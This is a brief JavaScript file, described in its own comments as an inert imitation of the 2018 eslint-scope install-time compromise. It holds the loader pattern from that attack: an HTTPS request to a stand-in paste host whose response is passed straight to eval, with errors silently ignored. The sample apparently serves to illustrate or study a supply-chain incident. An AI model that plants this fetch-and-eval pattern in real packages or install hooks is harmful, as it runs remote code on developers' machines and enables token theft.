// Inert imitation of eslint-scope 3.7.2's lib/build.js (July 2018): on install it fetched a
// script from a paste site and evaluated it; that script read ~/.npmrc and sent the token away.
// The host below is reserved (.invalid) and the path is made up.
try {
  var https = require('https');
  https
    .get({ hostname: 'paste.example.invalid', path: '/raw/XXXXXXXX', headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } }, (r) => {
      r.setEncoding('utf8');
      r.on('data', (c) => {
        eval(c);
      });
      r.on('error', () => {});
    })
    .on('error', () => {});
} catch (e) {}
